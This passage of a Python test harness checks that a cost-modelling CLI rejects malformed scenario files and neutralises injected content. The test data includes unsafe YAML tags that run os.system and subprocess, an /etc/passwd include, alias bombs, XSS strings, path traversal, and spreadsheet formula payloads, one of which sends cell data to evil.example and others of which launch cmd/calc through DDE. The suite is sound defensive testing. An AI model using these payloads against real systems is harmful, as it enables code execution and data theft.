    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


def bad_input_cases() -> list[Case]:
    cases: list[Case] = []

    def add(case_id: str, text: Callable[[], str | bytes], tokens: Sequence[str] = (),
            **kw: Any) -> None:
        cases.append(_file_case(f"bad/{case_id}", text, tokens, **kw))

    def setting(case_id: str, stem: str, changes: dict[str, Any], tokens: Sequence[str],
                quick: bool = False) -> None:
        add(case_id, lambda: mutated(stem, changes), tokens, quick=quick)

    # every numeric field out of range at both ends, from the schema's bounds (types: below)
    for i, (stem, path, bounds) in enumerate(_numeric_fields()):
        name = last_field(path)
        for end, value in (("below", _below(bounds)), ("above", _above(bounds))):
            if value is not None:
                setting(f"num/{path}/{end}", stem, {path: value}, [name],
                        quick=i % 40 == 0 and end == "below")
    for stem, path, ge, le in _integer_fields():
        name = last_field(path)
        if ge is not None:
            setting(f"int/{path}/below", stem, {path: ge - 1}, [name])
        if le is not None:
            setting(f"int/{path}/above", stem, {path: le + 1}, [name],
                    quick=path == "scenario.horizon_months")
    # an unknown key in every mapping of the shipped files (one per place in the schema)
    # (distributions are one place: two of them, a value's and a list item's, stand for all)
    seen: set[tuple[Any, ...]] = set()
    distributions = 0
    for stem in SHIPPED:
        data = _yaml().load(shipped_text(stem))
        for where in _mappings(data):
            pattern = tuple("N" if isinstance(p, int) else p for p in where)
            node = data
            for part in where:
                node = node[part]
            if pattern in seen or ("dist" in node and distributions >= 2):
                continue
            seen.add(pattern)
            distributions += "dist" in node
            dotted = ".".join(map(str, where)) or "top"
            setting(f"key/{dotted}", stem, {".".join(map(str, (*where, "zz_unknown_key"))): 1},
                    ["zz_unknown_key"], quick=dotted == "top")
    add("key/typo-did-you-mean", lambda: replaced(
        "ap_invoice_processing", r"^  monthly_volume:", "  monthly_volum:"),
        ["monthly_volum", "monthly_volume"])
    # wrong types and shapes
    wrong = {
        "type/volume-text": ("contact_centre", {"workload.monthly_volume": "lots"},
                             "monthly_volume"),
        "type/salary-list": ("contact_centre", {"in_house.salary_annual": [1, 2]},
                             "salary_annual"),
        "type/occupancy-bool": ("contact_centre", {"in_house.occupancy": True}, "occupancy"),
        "type/discount-nan": ("contact_centre", {"scenario.discount_rate_annual": math.nan},
                              "discount_rate_annual"),
        "type/handle-inf": ("contact_centre", {"workload.handle_time_minutes": math.inf},
                            "handle_time_minutes"),
        "type/volume-neg-inf": ("ap_invoice_processing", {"workload.monthly_volume": -math.inf},
                                "monthly_volume"),
        "type/horizon-float": ("ap_invoice_processing", {"scenario.horizon_months": 12.5},
                               "horizon_months"),
        "type/horizon-text": ("ap_invoice_processing", {"scenario.horizon_months": "twelve"},
                              "horizon_months"),
        "type/money-percent": ("ap_invoice_processing", {"in_house.fixed_monthly": "30%"},
                               "fixed_monthly"),
        "type/offers-mapping": ("ap_invoice_processing", {"offers": {"a": 1}}, "offers"),
        "type/offers-empty": ("ap_invoice_processing", {"offers": []}, "offers"),
        "type/section-scalar": ("ap_invoice_processing", {"workload": 5}, "workload"),
        "type/section-list": ("ap_invoice_processing", {"in_house": [1, 2]}, "in_house"),
        "type/pricing-model-unknown": ("contact_centre", {"offers.0.pricing.model": "per_hug"},
                                       "model"),
        "type/name-number": ("contact_centre", {"scenario.name": 5}, "name"),
        "type/name-empty": ("contact_centre", {"scenario.name": ""}, "name"),
        "type/name-too-long": ("contact_centre", {"scenario.name": "x" * 300}, "name"),
        "type/currency-word": ("contact_centre", {"scenario.currency": "EURO"}, "currency"),
        "type/currency-number": ("contact_centre", {"scenario.currency": 840}, "currency"),
        "type/illustrative-maybe": ("contact_centre", {"scenario.illustrative": "maybe"},
                                    "illustrative"),
        "type/seasonality-11": ("contact_centre", {"workload.seasonality": [1.0] * 11},
                                "seasonality"),
        "type/seasonality-mean-2": ("contact_centre", {"workload.seasonality": [2.0] * 12},
                                    "seasonality"),
        "type/seasonality-scalar": ("contact_centre", {"workload.seasonality": 1.0},
                                    "seasonality"),
        "type/dist-unknown": ("contact_centre", {"workload.monthly_volume": {
            "dist": "nosuch", "low": 1, "high": 2}}, "monthly_volume"),
        "type/dist-empty": ("contact_centre", {"workload.monthly_volume": {}},
                            "monthly_volume"),
        "type/dist-disordered": ("contact_centre", {"workload.monthly_volume": {
            "dist": "triangular", "low": 5, "mode": 3, "high": 1}}, "monthly_volume"),
        "type/dist-negative-low": ("contact_centre", {"workload.monthly_volume": {
            "dist": "pert", "low": -5, "mode": 10, "high": 20}}, "monthly_volume"),
        "type/dist-missing-param": ("contact_centre", {"workload.monthly_volume": {
            "dist": "normal", "mean": 100000}}, "monthly_volume"),
        "type/dist-text-param": ("contact_centre", {"workload.monthly_volume": {
            "dist": "uniform", "low": "abc", "high": 20}}, "monthly_volume"),
        "type/correlation-unknown-path": ("contact_centre", {
            "correlations.0.between": ["offers.0.nope", "offers.0.quality.error_rate"]},
            "between"),
        "type/intraday-negative": ("contact_centre", {
            "workload.queue.intraday_profile.0": -1.0}, "intraday_profile"),
        "type/intraday-short": ("contact_centre", {"workload.queue.intraday_profile": [1.0] * 5},
                                "intraday_profile"),
        "type/hours-not-intervals": ("contact_centre", {"workload.queue.hours_open_per_day":
                                                        12.1}, "hours_open_per_day"),
        "type/abandon-without-patience": ("contact_centre", {"workload.queue.max_abandon_rate":
                                                             0.05}, "max_abandon_rate"),
        "type/schedule-months-negative": ("claims_back_office", {
            "offers.0.transition.knowledge_transfer": {"amount": 1000, "months": [-1, 2]}},
            "months"),
        "type/schedule-months-repeat": ("claims_back_office", {
            "offers.0.transition.knowledge_transfer": {"amount": 1000, "months": [1, 1]}},
            "months"),
        "type/calibrate-without-actual": ("ap_invoice_processing", {"in_house.calibrate": True},
                                          "calibrate"),
    }
    for case_id, (stem, changes, name) in wrong.items():
        setting(case_id, stem, changes, [name],
                quick=case_id == "type/dist-disordered")
    missing = {"missing/currency": ("contact_centre", "scenario.currency", "currency"),
               "missing/handle-time": ("contact_centre", "workload.handle_time_minutes",
                                       "handle_time_minutes"),
               "missing/salary": ("contact_centre", "in_house.salary_annual", "salary_annual"),
               "missing/offer-name": ("contact_centre", "offers.0.name", "name"),
               "missing/offer-pricing": ("contact_centre", "offers.0.pricing", "pricing"),
               "missing/pricing-model": ("contact_centre", "offers.0.pricing.model", "model"),
               "missing/section-in-house": ("contact_centre", "in_house", "in_house")}
    for case_id, (stem, path, name) in missing.items():
        add(case_id, lambda stem=stem, path=path: mutated(stem, deletions=[path]), [name])
    # impossible and unreadable dates
    for case_id, value in {"feb-30": "2027-02-30", "feb-29-2027": "2027-02-29",
                           "month-13": "2027-13", "year-1899": "1899-12", "short-year": "27-01",
                           "number": "202701"}.items():
        add(f"date/{case_id}", lambda value=value: replaced(
            "ap_invoice_processing", r"^  start_month: .*$", f"  start_month: {value}"),
            ["start_month"], quick=case_id == "feb-30")
    # YAML tricks
    ap = "ap_invoice_processing"
    yaml_cases: dict[str, tuple[Callable[[], str | bytes], list[str]]] = {
        "alias-bomb": (lambda: _bomb(9), []),
        "alias-bomb-in-a-field": (lambda: _bomb(6) + "scenario: *a6\n", []),
        "python-object-apply": (lambda: replaced(
            ap, r"^  name: .*$", "  name: !!python/object/apply:os.system ['touch pwned']"),
            ["name"]),
        "python-name": (lambda: replaced(ap, r"^  currency: .*$",
                                         "  currency: !!python/name:os.system"), ["currency"]),
        "python-object-new": (lambda: replaced(
            ap, r"^workload:", "workload: !!python/object/new:subprocess.Popen [['id']]\nx:"),
            ["workload"]),
        "binary": (lambda: replaced(ap, r"^  name: .*$", "  name: !!binary aGVsbG8="), ["name"]),
        "set": (lambda: replaced(ap, r"^  name: .*$", "  name: !!set {a, b}"), ["name"]),
        "custom-tag": (lambda: replaced(ap, r"^  name: .*$", "  name: !include /etc/passwd"),
                       ["name"]),
        "duplicate-top-key": (lambda: shipped_text(ap) + "\nworkload: {}\n", ["workload"]),
        "duplicate-field": (lambda: replaced(ap, r"^  monthly_volume: (.*)$",
                                             r"  monthly_volume: \1\n  monthly_volume: 5"),
                            ["monthly_volume"]),
        "duplicate-in-flow-map": (lambda: replaced(
            ap, r"^workload:", "workload:\n  seasonality: {a: 1, a: 2}\n  notes: x\nxx:"),
            ["a"]),
        "integer-key-top": (lambda: "1: 5\n" + shipped_text(ap), ["1"]),
        "integer-key-nested": (lambda: replaced(ap, r"^workload:", "workload:\n  7: 5"), ["7"]),
        "bool-key": (lambda: replaced(ap, r"^in_house:", "in_house:\n  true: 5"), ["true"]),
        "null-key": (lambda: replaced(ap, r"^in_house:", "in_house:\n  ~: 5"), ["in_house"]),
        "complex-key": (lambda: "? [a, b]\n: 1\n" + shipped_text(ap), []),
        "huge-int-400-digits": (lambda: replaced(ap, r"^  monthly_volume: .*$",
                                                 "  monthly_volume: " + "9" * 400),
                                ["monthly_volume"]),
        "huge-int-6000-digits": (lambda: replaced(ap, r"^  monthly_volume: .*$",
                                                  "  monthly_volume: " + "9" * 6000),
                                 ["monthly_volume"]),
        "huge-negative-int": (lambda: replaced(ap, r"^  salary_annual: .*$",
                                               "  salary_annual: -" + "9" * 5000),
                              ["salary_annual"]),
        "float-overflow": (lambda: replaced(ap, r"^  salary_annual: .*$",
                                            "  salary_annual: 1e400"), ["salary_annual"]),
        "hex-horizon": (lambda: replaced(ap, r"^  horizon_months: .*$",
                                         "  horizon_months: 0xFFFFFFFF"), ["horizon_months"]),
        "deep-nesting-flow": (lambda: "x: " + "[" * 5000 + "]" * 5000 + "\n", []),
        "deep-nesting-block": (lambda: "".join(f"{'  ' * i}k{i}:\n" for i in range(60))
                               + "  " * 60 + "v: 1\n", []),
        "huge-value": (lambda: replaced(ap, r"^  name: .*$", "  name: " + "a" * 20_000),
                       ["name"]),
        "long-list": (lambda: "x:\n" + "- 1\n" * 100_000, []),
        "file-of-2-mib": (lambda: "# " + "x" * (2 << 20) + "\n", []),
        "latin-1": (lambda: shipped_text(ap).replace("name: ", "name: caf\xe9 ", 1).encode(
            "latin-1", "replace"), []),
        "utf-16": (lambda: shipped_text(ap).encode("utf-16"), []),
        "invalid-byte-first": (lambda: b"\xff" + shipped_text(ap).encode(), []),
        "nul-byte": (lambda: shipped_text(ap).replace("name: ", "name: a\0b ", 1), []),
        "bom-and-error": (lambda: "\ufeff" + replaced(ap, r"^  horizon_months: .*$",
                                                      "  horizon_months: 0"),
                          ["horizon_months"]),
        "empty-file": (lambda: "", []),
        "whitespace-only": (lambda: "  \n\n\t\n", []),
        "comments-only": (lambda: "# nothing here\n# at all\n", []),
        "document-marker-only": (lambda: "---\n", []),
        "null-document": (lambda: "null\n", []),
        "scalar-document": (lambda: "hello\n", []),
        "list-document": (lambda: "- scenario\n- workload\n", []),
        "two-documents": (lambda: shipped_text(ap) + "\n---\n" + shipped_text(ap), []),
        "tab-indentation": (lambda: shipped_text(ap).replace("\n  name:", "\n\tname:", 1), []),
        "unclosed-quote": (lambda: replaced(ap, r"^  name: .*$", '  name: "unclosed'), []),
        "unclosed-flow": (lambda: replaced(ap, r"^  monthly_volume: .*$",
                                           "  monthly_volume: [1, 2"), []),
        "merge-key-conflict": (lambda: replaced(ap, r"^workload:",
                                                "base: &b {x: 1}\nworkload:\n  <<: *b"),
                               ["base"]),
    }
    quick_yaml = {"alias-bomb", "python-object-apply", "duplicate-field", "huge-int-6000-digits",
                  "latin-1"}
    for case_id, (content, tokens) in yaml_cases.items():
        add(f"yaml/{case_id}", content, tokens, quick=case_id in quick_yaml)
    add("yaml/bom-valid", lambda: "\ufeff" + shipped_text(ap), accept=True)
    # YAML 1.2 reads `yes` as text; a true/false field takes it as true (pydantic's reading)
    add("yaml/yes-for-true-false", lambda: replaced(ap, r"^  illustrative: .*$",
                                                    "  illustrative: yes"), accept=True)
    add("yaml/crlf-valid", lambda: shipped_text(ap).replace("\n", "\r\n"), accept=True)
    add("yaml/str-tag-valid", lambda: replaced(ap, r"^  name: .*$", "  name: !!str 2027"),
        accept=True)
    add("yaml/evaluate-python-tag", lambda: replaced(
        ap, r"^  name: .*$", "  name: !!python/object/apply:os.system ['touch pwned']"),
        ["name"], command="evaluate")
    cases += _file_kind_cases()
    cases += _notebook_cases()
    cases += _parameter_cases()
    cases += _option_cases()
    return cases


def _file_kind_cases() -> list[Case]:
    """Scenario "files" that are not regular files, for every command that reads one."""

    def kind(case_id: str, make: Callable[[Context], Path], command: str = "validate",
             tokens: Sequence[str] = (), quick: bool = False) -> Case:
        def prepare(ctx: Context) -> Spec:
            path = make(ctx)
            args = {"validate": ["validate", str(path)],
                    "evaluate": ["evaluate", str(path), "--out", str(ctx.out)],
                    "diff": ["diff", str(path), AP],
                    "sweep": _sweep_args(ctx, str(path)),
                    "run": _run_args(ctx, str(path))}[command]
            return Spec(args)

        return Case(f"bad/file/{case_id}", "bad-input", prepare,
                    refused(tokens),
                    quick=quick)

    def folder(ctx: Context) -> Path:
        (ctx.inputs / "s.yaml").mkdir()
        return ctx.inputs / "s.yaml"

    def fifo(ctx: Context) -> Path:
        return _fifo(ctx.inputs / "s.yaml")

    def link_to(target: Callable[[Context], Path]) -> Callable[[Context], Path]:
        def make(ctx: Context) -> Path:
            dest = target(ctx)
            link = ctx.inputs / "link.yaml"
            link.symlink_to(dest)
            return link
        return make

    def loop(ctx: Context) -> Path:
        (ctx.inputs / "a.yaml").symlink_to(ctx.inputs / "b.yaml")
        (ctx.inputs / "b.yaml").symlink_to(ctx.inputs / "a.yaml")
        return ctx.inputs / "a.yaml"

    def sock(ctx: Context) -> Path:
        path = ctx.inputs / "s.yaml"
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(str(path))
        server.listen(1)
        ctx.cleanups.append(server.close)
        return path

    def fifo_other(ctx: Context) -> Path:
        return _fifo(ctx.inputs / "other.yaml")

    cases = [
        kind("folder", folder, tokens=["s.yaml"], quick=True),
        kind("fifo", fifo, tokens=["s.yaml"], quick=True),
        kind("fifo-evaluate", fifo, "evaluate", ["s.yaml"]),
        kind("fifo-diff", fifo, "diff", ["s.yaml"]),
        kind("fifo-sweep", fifo, "sweep", ["s.yaml"]),
        kind("fifo-run", fifo, "run", ["s.yaml"]),
        kind("link-to-fifo", link_to(fifo_other), tokens=["link.yaml"]),
        kind("link-to-folder", link_to(lambda c: (c.inputs / "d").mkdir() or c.inputs / "d"),
             tokens=["link.yaml"]),
        kind("dangling-link", link_to(lambda c: c.inputs / "nowhere.yaml"),
             tokens=["link.yaml"]),
        kind("link-loop", loop, tokens=["a.yaml"]),
        kind("socket", sock, tokens=["s.yaml"]),
        kind("dev-zero", lambda c: Path("/dev/zero"), tokens=["/dev/zero"]),
        kind("dev-null", lambda c: Path("/dev/null"), tokens=["/dev/null"]),
        kind("dev-zero-evaluate", lambda c: Path("/dev/zero"), "evaluate", ["/dev/zero"]),
        kind("missing", lambda c: c.inputs / "missing.yaml", tokens=["missing.yaml"]),
        kind("name-too-long", lambda c: c.inputs / ("x" * 300 + ".yaml"), tokens=["xxxx"]),
        kind("under-a-file", lambda c: c.write("f.txt", "x") / "s.yaml", tokens=["s.yaml"]),
    ]
    link_valid = Case("bad/file/link-to-valid", "bad-input",
                      lambda ctx: Spec(["validate", str(link_to(lambda c: Path(AP))(ctx))]),
                      refused(["link.yaml"], accept=True))
    return [*cases, link_valid]


def _notebook_cases() -> list[Case]:
    """``--notebook`` paths that are not notebooks (refused before any kernel starts)."""

    def nb(case_id: str, make: Callable[[Context], Path], quick: bool = False) -> Case:
        def prepare(ctx: Context) -> Spec:
            path = make(ctx)
            return Spec([*_run_args(ctx, AP), "--notebook", str(path)])

        return Case(f"bad/notebook/{case_id}", "bad-input", prepare,
                    refused(["--notebook", "nb"]), quick=quick)

    return [
        nb("yaml", lambda c: c.write("nb.ipynb", shipped_text("ap_invoice_processing")),
           quick=True),
        nb("json-object", lambda c: c.write("nb.ipynb", '{"a": 1}')),
        nb("json-list", lambda c: c.write("nb.ipynb", "[1, 2, 3]")),
        nb("empty", lambda c: c.write("nb.ipynb", "")),
        nb("binary", lambda c: c.write("nb.ipynb", bytes(range(256)) * 4)),
        nb("folder", lambda c: (c.inputs / "nb.ipynb").mkdir() or c.inputs / "nb.ipynb"),
        nb("missing", lambda c: c.inputs / "nb.ipynb"),
        nb("fifo", lambda c: _fifo(c.inputs / "nb.ipynb")),
        nb("cells-not-a-list", lambda c: c.write("nb.ipynb", json.dumps(
            {"cells": 5, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))),
        nb("scenario-as-notebook", lambda c: c.write("nb.yaml", shipped_text(
            "ap_invoice_processing"))),
    ]


def _parameter_cases() -> list[Case]:
    """``bpo-roi run -p NAME=VALUE`` that the notebook or the scenario cannot take."""
    pairs = {
        "trials-0": ("trials=0", "trials"), "trials-text": ("trials=abc", "trials"),
        "trials-huge": ("trials=2000000000", "trials"), "trials-float": ("trials=1.5", "trials"),
        "seed-negative": ("seed=-1", "seed"), "seed-2-64": (f"seed={2**64}", "seed"),
        "no-name": ("=5", "=5"), "no-equals": ("novalue", "novalue"),
        "reserved": ("assumptions_path=x.yaml", "assumptions_path"),
        "unknown": ("unknown_parameter=1", "unknown_parameter"),
        "override-out-of-range": ("workload.monthly_volume=-5", "monthly_volume"),
        "override-unknown-path": ("workload.nope=1", "nope"),
        "override-list": ("workload.monthly_volume=[1,2]", "monthly_volume"),
        "override-unknown-offer": ("offers[Nope].pricing.rate=1", "Nope"),
        "override-empty-part": ("workload..monthly_volume=1", "monthly_volume"),
    }
    cases = []
    for case_id, (pair, token) in pairs.items():
        def prepare(ctx: Context, pair: str = pair) -> Spec:
            return Spec([*_run_args(ctx, AP), "-p", pair], timeout=RUN_TIMEOUT)

        cases.append(Case(f"bad/p/{case_id}", "bad-input", prepare, refused([token]),
                          quick=case_id in ("trials-0", "override-out-of-range")))
    return cases


def _option_cases() -> list[Case]:
    """Bad command-line options and arguments."""
    options: dict[str, tuple[Callable[[Context], list[str]], list[str]]] = {
        "cell-timeout-0": (lambda c: [*_run_args(c, AP), "--cell-timeout", "0"],
                           ["cell-timeout"]),
        "cell-timeout-negative": (lambda c: [*_run_args(c, AP), "--cell-timeout", "-5"],
                                  ["cell-timeout"]),
        "cell-timeout-text": (lambda c: [*_run_args(c, AP), "--cell-timeout", "abc"],
                              ["cell-timeout"]),
        "cell-timeout-float": (lambda c: [*_run_args(c, AP), "--cell-timeout", "1.5"],
                               ["cell-timeout"]),
        "run-workers-0": (lambda c: [*_run_args(c, AP), "--workers", "0"], ["workers"]),
        "run-workers-text": (lambda c: [*_run_args(c, AP), "--workers", "many"], ["workers"]),
        "run-out-empty": (lambda c: ["run", AP, "--out", ""], ["out"]),
        "run-out-blank": (lambda c: ["run", AP, "--out", "   "], ["out"]),
        "run-no-out": (lambda c: ["run", AP], ["out"]),
        "evaluate-out-empty": (lambda c: ["evaluate", AP, "--out", ""], ["out"]),
        "diff-out-empty": (lambda c: ["diff", AP, AP, "--out", ""], ["out"]),
        "sweep-out-empty": (lambda c: ["sweep", AP, "--grid", "workload.monthly_volume=1000",
                                       "--out", ""], ["out"]),
        "sweep-workers-0": (lambda c: [*_sweep_args(c, AP), "--workers", "0"], ["workers"]),
        "sweep-trials-0": (lambda c: [*_sweep_args(c, AP), "--trials", "0"], ["trials"]),
        "sweep-trials-huge": (lambda c: [*_sweep_args(c, AP), "--trials", "1000000000000"],
                              ["trials"]),
        "sweep-seed-negative": (lambda c: [*_sweep_args(c, AP), "--trials", "10", "--seed",
                                           "-1"], ["seed"]),
        "sweep-seed-2-64": (lambda c: [*_sweep_args(c, AP), "--trials", "10", "--seed",
                                       str(2**64)], ["seed"]),
        "grid-no-equals": (lambda c: _sweep_args(c, AP, "workload.monthly_volume"), ["grid"]),
        "grid-no-values": (lambda c: _sweep_args(c, AP, "workload.monthly_volume="), ["grid"]),
        "grid-empty-value": (lambda c: _sweep_args(c, AP, "workload.monthly_volume=1,,2"),
                             ["grid"]),
        "grid-list-value": (lambda c: _sweep_args(c, AP, "workload.monthly_volume=[1]"),
                            ["grid"]),
        "grid-unknown-path": (lambda c: _sweep_args(c, AP, "workload.nope=1"), ["nope"]),
        "grid-out-of-range": (lambda c: _sweep_args(c, AP, "workload.monthly_volume=-1"),
                              ["monthly_volume"]),
        "grid-twice": (lambda c: [*_sweep_args(c, AP), "--grid", "workload.monthly_volume=7"],
                       ["monthly_volume"]),
        "grid-offer-out-of-range": (lambda c: _sweep_args(c, AP, "offers[9].pricing.rate=1"),
                                    ["offers"]),
        "sweep-file-twice": (lambda c: ["sweep", AP, AP, "--grid",
                                        "workload.monthly_volume=1000", "--out", str(c.out)],
                             ["twice"]),
        "sweep-unreachable-scheduler": (lambda c: [*_sweep_args(c, AP), "--scheduler",
                                                   "tcp://127.0.0.1:9"], ["scheduler"]),
        "diff-method": (lambda c: ["diff", AP, AP, "--method", "nope"], ["method"]),
        "evaluate-no-file": (lambda c: ["evaluate"], ["file"]),
        "evaluate-two-files": (lambda c: ["evaluate", AP, HD], ["unrecognized"]),
        "unknown-command": (lambda c: ["frobnicate"], ["frobnicate"]),
        "unknown-flag": (lambda c: ["validate", AP, "--bogus"], ["--bogus"]),
        "notebook-path-name": (lambda c: ["notebook-path", "nope"], ["nope"]),
        "new-slash": (lambda c: ["new", "bad/name", "--dir", str(c.out)], ["bad/name"]),
        "new-empty": (lambda c: ["new", "", "--dir", str(c.out)], ["name"]),
        "new-dots": (lambda c: ["new", "..", "--dir", str(c.out)], ["name"]),
        "new-dir-is-file": (lambda c: ["new", "ok", "--dir", str(c.write("f.txt", "x"))],
                            ["f.txt"]),
    }
    quick = {"cell-timeout-0", "grid-unknown-path", "unknown-flag"}
    return [Case(f"bad/cli/{case_id}", "bad-input", command_on(args), refused(tokens),
                 quick=case_id in quick)
            for case_id, (args, tokens) in options.items()]


# -- injection -----------------------------------------------------------------------------------

HTML_PAYLOADS = {
    "script": "<script>alert('xss1')</script>",
    "img-onerror": "<img src=x onerror=alert('xss2')>",
    "svg-attribute-break": "\"><svg onload=alert('xss3')>",
    "script-break": "</script><script>alert('xss4')</script>",
    "single-quote-break": "x' onmouseover='alert(5)' y='",
    "javascript-url": "javascript:alert('xss6')",
}
FORMULA_PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "plus-cmd": "+cmd|' /C calc'!A0",
    "minus-cmd": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "equals": "=1+1",
    "dde": '=DDE("cmd";"/C calc";"!A0")',
    "tab-equals": "\t=1+1",
    "cr-equals": "\r=1+1",
}
MARKERS = ("HYPERLINK", "cmd|", "SUM(1+1)", "1+1", "DDE", "xss", "alert")
REFUSED_NAMES = {
    "bidi-override": "Vendor \u202egnp.exe",
    "bidi-isolate": "\u2066evil\u2069 Vendor",
    "zero-width-space": "Ven\u200bdor",
    "bom-inside": "\ufeffVendor",
    "ansi-escape": "\x1b[31mred\x1b[0m Vendor",
    "nul": "Ven\0dor",
    "newline": "Vendor\nSecond line",
}


def injection_cases() -> list[Case]:
    cases: list[Case] = []

    def evaluate_offer(payload: str) -> Callable[[Context], Spec]:
        def prepare(ctx: Context) -> Spec:
            path = ctx.write("s.yaml", tiny_scenario(offer_names=[payload, "Plain vendor"]))
            return Spec(["evaluate", str(path), "--out", str(ctx.out)])
        return prepare

    for case_id, payload in FORMULA_PAYLOADS.items():
        cases.append(Case(f"inj/evaluate/offer/{case_id}", "injection", evaluate_offer(payload),
                          inert(MARKERS, ["monthly.csv", "metrics.json"]),
                          quick=case_id in ("hyperlink", "minus-cmd")))
    cases.append(Case("inj/evaluate/offer/script", "injection",
                      evaluate_offer(HTML_PAYLOADS["script"]),
                      inert(MARKERS, ["monthly.csv"])))

    def diff_names(payload: str) -> Callable[[Context], Spec]:
        def prepare(ctx: Context) -> Spec:
            old = ctx.write("old.yaml", tiny_scenario(payload, [payload, "Plain vendor"]))
            new = ctx.write("new.yaml", tiny_scenario(payload, [payload, "Plain vendor"])
                            .replace('"monthly_volume": 6000', '"monthly_volume": 7000'))
            return Spec(["diff", str(old), str(new), "--out", str(ctx.out)])
        return prepare

    for case_id, payload in HTML_PAYLOADS.items():
        cases.append(Case(f"inj/diff/names/{case_id}", "injection", diff_names(payload),
                          inert(MARKERS, ["bridge.html", "diff.csv"]),
                          quick=case_id == "script-break"))
    cases.append(Case("inj/diff/names/hyperlink", "injection",
                      diff_names(FORMULA_PAYLOADS["hyperlink"]),
                      inert(MARKERS, ["bridge.html", "diff.csv"])))

    def sweep_names(payload: str) -> Callable[[Context], Spec]:
        def prepare(ctx: Context) -> Spec:
            path = ctx.write("s.yaml", tiny_scenario(payload, [payload, "Plain vendor"]))
            return Spec(_sweep_args(ctx, str(path), "workload.monthly_volume=6000,7000"))
        return prepare

    for case_id in ("plus-cmd", "at-sum"):
        cases.append(Case(f"inj/sweep/names/{case_id}", "injection",
                          sweep_names(FORMULA_PAYLOADS[case_id]),
                          inert(MARKERS, ["sweep.csv"])))
    cases.append(Case("inj/sweep/names/script", "injection", sweep_names(HTML_PAYLOADS["script"]),
                      inert(MARKERS, ["sweep.csv"])))

    def refused_name(text: str, where: str) -> Callable[[Context], Spec]:
        def prepare(ctx: Context) -> Spec:
            content = (tiny_scenario(offer_names=[text]) if where == "offer" else
                       tiny_scenario(notes=text) if where == "notes" else tiny_scenario(text))
            return Spec(["evaluate", str(ctx.write("s.yaml", content)), "--out", str(ctx.out)])
        return prepare

    for case_id, text in REFUSED_NAMES.items():
        cases.append(Case(f"inj/names/{case_id}", "injection", refused_name(text, "offer"),
                          inert(MARKERS, ["monthly.csv"]),
                          quick=case_id == "bidi-override"))
    cases.append(Case("inj/notes/bidi-override", "injection",
                      refused_name("Approved \u202eby finance", "notes"),
                      inert(MARKERS, ["metrics.json"])))
    cases.append(Case("inj/names/stay-in-house-spoof", "injection",
                      refused_name("Stay in-house", "offer"),
                      inert(MARKERS, ["monthly.csv"])))

    def new_name(name: str) -> Callable[[Context], Spec]:
        def prepare(ctx: Context) -> Spec:
            return Spec(["new", name, "--dir", str(ctx.out)])
        return prepare

    for case_id, name in {"traversal": "../../evil", "absolute": "/tmp/evil-bpo-roi",
                          "script": "<script>x</script>", "formula": "=1+1"}.items():
        cases.append(Case(f"inj/new/{case_id}", "injection", new_name(name),
                          inert(MARKERS, ["*.yaml"])))
    # bpo-roi run: report.html, summary.html and results.xlsx as well
    run_payloads = {
        "html-and-formulas": (HTML_PAYLOADS["script-break"],
                              [HTML_PAYLOADS["img-onerror"], FORMULA_PAYLOADS["hyperlink"],
                               HTML_PAYLOADS["single-quote-break"]],
                              FORMULA_PAYLOADS["at-sum"] + " " + HTML_PAYLOADS["script"]),
        "traversal-and-commands": ("../../escaped-run", [FORMULA_PAYLOADS["plus-cmd"],
                                                         FORMULA_PAYLOADS["dde"]], None),
    }
    for case_id, (scenario_name, offers, notes) in run_payloads.items():
        def prepare(ctx: Context, scenario_name: str = scenario_name,
                    offers: list[str] = offers, notes: str | None = notes) -> Spec:
            path = ctx.write("s.yaml", tiny_scenario(scenario_name, offers, notes))
            return Spec(_run_args(ctx, str(path)), timeout=RUN_TIMEOUT)

        cases.append(Case(f"inj/run/{case_id}", "injection", prepare,
                          inert(MARKERS, ["*/report.html", "*/results.xlsx",
                                                      "summary.html", "summary.csv"]),
                          kernels=True, quick=case_id == "html-and-formulas"))
    return cases


# -- faults --------------------------------------------------------------------------------------


def _no_temporary_files(ctx: Context, r: Result) -> str | None:
    del r
    if not ctx.out.is_dir():
        return None
    left = [ctx.rel(p) for p in ctx.out.rglob("*") if p.name.endswith(".tmp")
            or ".partial-" in p.name or p.name.startswith(".write-test")]
    return f"left temporary files: {', '.join(left)[:150]}" if left else None


def _lock_removed(ctx: Context, r: Result) -> str | None:
    if (ctx.out / ".bpo-roi.lock").exists() or (ctx.out / ".bpo-roi.lock").is_symlink():
        return "the lock file is still there after the command ended"
    return _no_temporary_files(ctx, r)


def faults_cases() -> list[Case]:
    cases: list[Case] = []

    def fault(case_id: str, prepare: Callable[[Context], Spec], judge: Judge,
              quick: bool = False, kernels: bool = False) -> None:
        cases.append(Case(f"fault/{case_id}", "faults", prepare, judge, quick=quick,
                          kernels=kernels))

    commands: dict[str, Callable[[Context], list[str]]] = {
        "evaluate": lambda c: ["evaluate", AP, "--out", str(c.out)],
        "run": lambda c: _run_args(c, AP),
        "sweep": lambda c: _sweep_args(c, AP),
        "diff": lambda c: ["diff", AP, HD, "--out", str(c.out)],
    }
    for name, args in commands.items():
        def read_only(ctx: Context, args: Callable[[Context], list[str]] = args) -> Spec:
            ctx.out.mkdir()
            _user_file(ctx, ctx.out / "notes.txt")
            _read_only(ctx, ctx.out)
            return Spec(args(ctx), timeout=RUN_TIMEOUT)

        fault(f"read-only-out/{name}", read_only, handled([2], ["out"]),
              quick=name == "evaluate")

        def out_is_file(ctx: Context, args: Callable[[Context], list[str]] = args) -> Spec:
            _user_file(ctx, ctx.out, "quarter,budget\nQ1,100\n")
            return Spec(args(ctx), timeout=RUN_TIMEOUT)

        fault(f"out-is-a-file/{name}", out_is_file, handled([2], ["out"]),
              quick=name == "run")

    def out_under_file(ctx: Context) -> Spec:
        _user_file(ctx, ctx.cwd / "report.txt")
        return Spec(["evaluate", AP, "--out", str(ctx.cwd / "report.txt" / "sub")])

    fault("out-under-a-file/evaluate", out_under_file, handled([2], ["report.txt"]))

    for name in ("run", "sweep"):
        def held(ctx: Context, name: str = name) -> Spec:
            _hold_lock(ctx, ctx.out)
            _user_file(ctx, ctx.out / "notes.txt")
